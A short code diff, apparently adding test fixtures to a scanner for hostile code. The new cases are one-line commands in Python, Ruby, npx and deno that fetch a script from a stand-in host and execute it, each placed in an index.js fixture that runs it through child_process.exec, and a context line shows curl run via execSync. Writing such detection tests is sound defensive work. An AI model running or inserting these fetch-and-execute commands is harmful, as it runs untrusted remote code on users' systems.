@@ -192,6 +192,16 @@ const run = (texts, ...values) => cp.execSync(texts.raw.join('')); run\`curl -s 
       },
       weight: 'proof',
     },
+    ...[
+      `python3 -c "import urllib.request as u;exec(u.urlopen('https://a.invalid').read())"`,
+      `ruby -ropen-uri -e "eval(URI.open('https://a.invalid').read)"`,
+      `npx -y https://a.invalid/x.tgz`,
+      `deno run -A https://a.invalid/x.ts`,
+    ].map(line => ({
+      when: `a command does so: ${line}`,
+      files: { 'index.js': `require('child_process').exec(${JSON.stringify(line)})` },
+      weight: 'proof' as const,
+    })),
   ],
   silent: [
     {
